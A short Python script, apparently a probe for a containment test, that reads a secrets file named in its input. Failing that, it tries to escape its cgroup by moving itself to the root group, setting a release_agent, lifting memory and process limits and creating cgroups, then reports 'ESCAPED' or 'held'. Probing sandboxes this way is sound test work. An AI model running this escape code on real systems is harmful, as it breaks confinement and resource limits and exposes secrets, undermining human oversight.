# Leaves its control group, lifts its limits, plants a release agent.
import glob, json, os, sys
rig = json.load(sys.stdin)
try:
    print("ESCAPED", open(rig["secrets"][0]).read())
    sys.exit()  # it reads what it should not: no need to harm the machine as well
except OSError:
    pass
got = []
for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified", "/proc/1/root" + "/sys/fs/cgroup"):
    for name, text in (("cgroup.procs", "0"), ("release_agent", "/tmp/x"), ("memory.limit_in_bytes", "-1"), ("pids.max", "max"), ("memory.max", "max")):
        for path in (f"{base}/{name}", *glob.glob(f"{base}/*/{name}")):
            try:
                with open(path, "w") as file:
                    file.write(text)
                got.append(path)
            except OSError:
                pass
    try:
        os.mkdir(f"{base}/psmark")
        got.append(base)
    except OSError:
        pass
print("ESCAPED", *got) if got else print("held")
